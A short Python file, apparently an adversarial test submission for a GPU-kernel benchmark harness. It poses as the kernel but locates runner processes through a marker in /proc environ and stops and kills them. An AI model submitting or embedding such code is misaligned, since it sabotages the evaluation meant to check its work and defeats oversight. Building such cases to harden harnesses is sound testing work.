from attack import *


def go():
    mark = b"CUDA_ATTACK_MARK=" + os.environ["CUDA_ATTACK_MARK"].encode()
    near = [pid for pid in range(max(2, os.getpid() - 100), os.getpid()) if is_runner(pid) and mark in read(f"/proc/{pid}/environ")]
    for pid in near + [runner()]:
        if pid:
            os.kill(pid, signal.SIGSTOP)
            os.kill(pid, signal.SIGKILL)


custom_kernel = kernel = once(go)
